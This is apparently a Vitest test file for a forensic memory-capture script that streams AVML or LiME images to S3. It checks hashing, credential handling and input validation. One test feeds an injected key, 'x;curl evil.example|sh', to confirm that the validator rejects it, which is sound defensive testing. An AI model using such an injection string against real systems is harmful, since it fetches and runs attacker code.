import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

/**
 * The memory capture script, run by bash against a fake instance: `avml`, `aws`, `uname`, `insmod` are
 * stubs on PATH, S3 is a directory. The script's own logic, its hashing of the stream and its failure
 * exits are the real ones.
 */
const SCRIPT = join(import.meta.dirname, '..', '..', '..', 'workflows', 'scripts', 'capture-memory.sh');
const CASE_ID = 'CASE-20261123-AB12';
const KEY = `${CASE_ID}/memory/i-0a1b2c3d4e5f60718-20261123T100000Z.lime`;
const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY';
const TOKEN = 'FwoGZXIvYXdzEXAMPLETOKENabcdefghijklmnop';

let dir: string;
let bin: string;

function stub(name: string, body: string) {
  const path = join(bin, name);
  writeFileSync(path, body);
  chmodSync(path, 0o755);
}

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'capture-memory-'));
  bin = join(dir, 'bin');
  for (const d of [bin, join(dir, 's3'), join(dir, 'shm')]) mkdirSync(d, { recursive: true });
  stub('uname', '#!/bin/bash\necho "${FAKE_KERNEL:-5.10.219-208.866.amzn2.x86_64}"\n');
  stub(
    'avml',
    `#!/bin/bash
if [ "$1" = "--version" ]; then echo "avml 0.14.0"; exit 0; fi
[ -n "\${FAKE_AVML_FAIL:-}" ] && exit 9
yes "forensic memory page" | head -c "\${FAKE_BYTES:-300000}" > "$1"
`,
  );
  stub(
    'aws',
    `#!/bin/bash
echo "$*" >> "${dir}/aws.log"
[ -n "\${AWS_SECRET_ACCESS_KEY:-}" ] && echo "credentials-in-env $AWS_ACCESS_KEY_ID" >> "${dir}/aws.log"
if [ "$1 $2 $3" = "s3 cp -" ]; then
  dest="\${4#s3://}"
  mkdir -p "${dir}/s3/$(dirname "$dest")"
  if [ -n "\${FAKE_UPLOAD_FAIL:-}" ]; then cat > /dev/null; exit 1; fi
  cat > "${dir}/s3/$dest"
  exit 0
fi
if [ "$1 $2" = "s3 cp" ] && [ -n "\${FAKE_LIME_MODULE:-}" ]; then
  for a in "$@"; do last="$a"; done
  echo fake-module > "$last"; exit 0
fi
exit 1
`,
  );
  stub(
    'insmod',
    `#!/usr/bin/env node
const net = require('node:net');
const bytes = Number(process.env.FAKE_BYTES || 300000);
const server = net.createServer((socket) => {
  socket.end(Buffer.alloc(bytes, 'L'));
  server.close();
});
server.listen(4444, '127.0.0.1');
`,
  );
  stub('rmmod', '#!/bin/bash\nexit 0\n');
});

afterEach(() => rmSync(dir, { recursive: true, force: true }));

function run(env: Record<string, string | undefined> = {}, pathWithout: string[] = []) {
  for (const name of pathWithout) rmSync(join(bin, name), { force: true });
  const base: Record<string, string | undefined> = {
    PATH: `${bin}:/usr/bin:/bin`,
    FORENSICS_WORK_DIR: join(dir, 'shm'),
    SSM_CaseId: CASE_ID,
    SSM_Bucket: 'forensics-evidence-222222222222',
    SSM_Key: KEY,
    SSM_Region: 'us-east-1',
    SSM_ExpectedBytes: '400000',
    SSM_Tool: 'auto',
    SSM_LimeModuleUri: '',
    SSM_AccessKeyId: 'ASIAEXAMPLEUPLOAD01',
    SSM_SecretAccessKey: SECRET,
    SSM_SessionToken: TOKEN,
    ...env,
  };
  const clean = Object.fromEntries(Object.entries(base).filter(([, v]) => v !== undefined)) as Record<
    string,
    string
  >;
  const out = spawnSync('bash', [SCRIPT], { env: clean, encoding: 'utf8', timeout: 20_000 });
  const log = existsSync(join(dir, 'aws.log')) ? readFileSync(join(dir, 'aws.log'), 'utf8') : '';
  return { code: out.status, stdout: out.stdout, stderr: out.stderr, log };
}

const uploaded = () => join(dir, 's3', 'forensics-evidence-222222222222', KEY);

describe('Script: capture-memory.sh', () => {
  it('streams the AVML image to S3 and prints its SHA-256, size, kernel and tool as the last line', () => {
    const result = run();

    expect(result.code).toBe(0);
    const image = readFileSync(uploaded());
    const last = JSON.parse(result.stdout.trim().split('\n').pop()!);
    expect(last).toEqual({
      sha256: createHash('sha256').update(image).digest('hex'),
      bytes: 300000,
      kernel: '5.10.219-208.866.amzn2.x86_64',
      tool: 'avml 0.14.0',
    });
    expect(result.log).toContain(`s3 cp - s3://forensics-evidence-222222222222/${KEY}`);
    expect(result.log).toContain('--expected-size 400000');
    expect(result.log).toContain('kernel-release=5.10.219-208.866.amzn2.x86_64');
    expect(result.log).toContain('credentials-in-env ASIAEXAMPLEUPLOAD01');
  });

  it('never prints the upload credentials and leaves nothing behind in its RAM work directory', () => {
    const result = run();

    expect(result.code).toBe(0);
    for (const secret of [SECRET, TOKEN]) {
      expect(result.stdout).not.toContain(secret);
      expect(result.stderr).not.toContain(secret);
      expect(result.log).not.toContain(secret);
    }
    expect(readdirSync(join(dir, 'shm'))).toEqual([]);
  });

  it('rejects a parameter that does not match its pattern before running anything', () => {
    const result = run({ SSM_Key: `${CASE_ID}/memory/x;curl evil.example|sh` });

    expect(result.code).toBe(2);
    expect(result.stderr).toContain('parameter Key is not valid');
    expect(result.log).toBe('');
  });

  it('rejects a key outside its own case prefix', () => {
    const result = run({ SSM_Key: 'CASE-20261123-ZZZZ/memory/other.lime' });

    expect(result.code).toBe(2);
    expect(result.log).toBe('');
  });

  it('refuses to run when the credentials did not come as environment variables', () => {
    const result = run({ SSM_SessionToken: undefined });

    expect(result.code).toBe(7);
    expect(result.log).toBe('');
  });

  it('exits 5 with a clear message when the upload fails', () => {
    const result = run({ FAKE_UPLOAD_FAIL: '1' });

    expect(result.code).toBe(5);
    expect(result.stderr).toContain('upload to s3://forensics-evidence-222222222222/');
  });

  it('exits 4 when AVML fails, without hanging on the stream', () => {
    const result = run({ FAKE_AVML_FAIL: '1' });

    expect(result.code).toBe(4);
    expect(result.stderr).toContain('avml exited with status 9');
  });

  it('falls back to the LiME module of the running kernel when AVML is absent', () => {
    const result = run(
      {
        SSM_LimeModuleUri: 's3://forensics-tools-222222222222/lime',
        FAKE_LIME_MODULE: '1',
        FAKE_BYTES: '5000',
      },
      ['avml'],
    );

    expect(result.code).toBe(0);
    expect(result.log).toContain(
      's3://forensics-tools-222222222222/lime/5.10.219-208.866.amzn2.x86_64/lime.ko',
    );
    const last = JSON.parse(result.stdout.trim().split('\n').pop()!);
    expect(last.bytes).toBe(5000);
    expect(last.tool).toBe('lime (5.10.219-208.866.amzn2.x86_64)');
    expect(last.sha256).toBe(createHash('sha256').update(readFileSync(uploaded())).digest('hex'));
  });

  it('exits 3 when neither AVML nor a LiME prefix is available', () => {
    const result = run({}, ['avml']);

    expect(result.code).toBe(3);
    expect(result.stderr).toContain('neither avml nor a LiME module prefix');
  });
});
